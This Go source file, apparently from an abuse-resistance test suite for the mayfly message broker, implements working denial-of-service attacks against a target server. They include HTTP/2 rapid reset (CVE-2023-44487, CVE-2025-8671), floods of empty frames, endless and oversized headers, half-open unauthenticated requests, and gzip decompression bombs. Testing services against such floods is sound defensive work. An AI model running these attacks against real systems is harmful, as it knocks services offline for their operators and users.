package abuse

import (
	"context"
	"strings"

	"golang.org/x/net/http2"

	cachepb "github.com/mayfly-broker/mayfly/proto/cache"
	pubsubpb "github.com/mayfly-broker/mayfly/proto/pubsub"
)

// burst is how many frames an attacker writes before it looks whether it was sent away.
const burst = 100

// flood repeats what an attacker writes on a connection until that is ended, and then
// on the next one. Each burst is counted as so many tries.
func flood(ctx context.Context, v *victim, write func(r *rude)) {
	persist(ctx, func() bool {
		r, err := v.rude(ctx, true)
		if err != nil {
			return false
		}
		defer func() { _ = r.Close() }()
		for ctx.Err() == nil {
			for range burst {
				write(r)
			}
			v.tries.Add(burst)
			if r.out.Flush() != nil {
				break
			}
		}
		return true
	})
}

// rapidReset opens streams and resets them at once (CVE-2023-44487), or has the other
// side do it (CVE-2025-8671).
func rapidReset(ctx context.Context, v *victim) {
	crowd(8, func(i int) {
		flood(ctx, v, func(r *rude) {
			id := r.head(pubsubpb.Pubsub_Subscribe_FullMethodName, "", false)
			if i%2 == 0 {
				_ = r.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			} else {
				_ = r.framer.WriteWindowUpdate(id, 1<<31-1)
			}
		})
	})
}

// emptyFrames writes frames of every kind that carry nothing.
func emptyFrames(ctx context.Context, v *victim) {
	kinds := []func(r *rude){
		func(r *rude) { _ = r.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}) },
		func(r *rude) { _ = r.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1}) },
		func(r *rude) { _ = r.framer.WritePing(false, [8]byte{}) },
		func(r *rude) { _ = r.framer.WritePriority(1, http2.PriorityParam{Weight: 1}) },
		func(r *rude) { _ = r.framer.WriteWindowUpdate(0, 1) },
		func(r *rude) { _ = r.framer.WriteRawFrame(0x77, 0, 0, nil) },
		func(r *rude) {
			if r.next == 1 {
				r.head(cachepb.Scs_Get_FullMethodName, "", false)
			}
			_ = r.framer.WriteData(1, false, nil)
		},
	}
	crowd(len(kinds), func(i int) { flood(ctx, v, kinds[i]) })
}

// headers sends header lists that do not end, that are too large, or that say much in
// few bytes.
func headers(ctx context.Context, v *victim) {
	endless := []byte(strings.Repeat("\x00\x01a\x7f\x00"+strings.Repeat("b", 127), 100))
	long := strings.Repeat("b", 3900) // fits the table that both sides keep
	crowd(6, func(i int) {
		flood(ctx, v, func(r *rude) {
			switch i % 3 {
			case 0:
				if r.next == 1 {
					r.next = 3
					_ = r.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: endless[:100]})
				}
				_ = r.framer.WriteContinuation(1, false, endless)
			case 1:
				r.head(cachepb.Scs_Get_FullMethodName, "", false, "x-bomb", long, "x-bomb", long, "x-bomb", long, "x-bomb", long, "x-bomb", long)
			default:
				// Just below what is taken in, and the body never comes.
				r.head(cachepb.Scs_Get_FullMethodName, "", false, "x-bomb", long, "x-bomb", long, "x-bomb", long)
			}
		})
	})
}

// halfRequests begins as many requests as it may, and never ends one. It has no
// credential.
func halfRequests(ctx context.Context, v *victim) {
	crowd(sized(4, 40), func(int) {
		persist(ctx, func() bool {
			r, err := v.rude(ctx, true)
			if err != nil {
				return false
			}
			for i := range 1000 {
				method := cachepb.Scs_Set_FullMethodName
				if i%2 == 0 {
					method = cachepb.Ping_Ping_FullMethodName // which asks nobody who it is
				}
				if r.part(r.head(method, "", false), 65_000, 60_000) != nil || r.out.Flush() != nil {
					return true
				}
				v.tries.Add(1)
			}
			<-ctx.Done()
			return true
		})
	})
}

// compress sends what becomes large when it is unpacked, where nobody asked for it.
func compress(ctx context.Context, v *victim) {
	bomb := packed(10 << 20)
	crowd(4, func(i int) {
		if i%2 == 0 {
			flood(ctx, v, func(r *rude) {
				id := r.head(cachepb.Scs_Set_FullMethodName, v.key, false, "grpc-encoding", "gzip")
				_ = r.framer.WriteData(id, true, append(prefix(1, len(bomb)), bomb...))
			})
			return
		}
		persist(ctx, func() bool {
			v.tries.Add(1)
			return v.post(ctx, "/topics/"+cache+"/bomb", bomb, "Content-Encoding", "gzip")
		})
	})
}
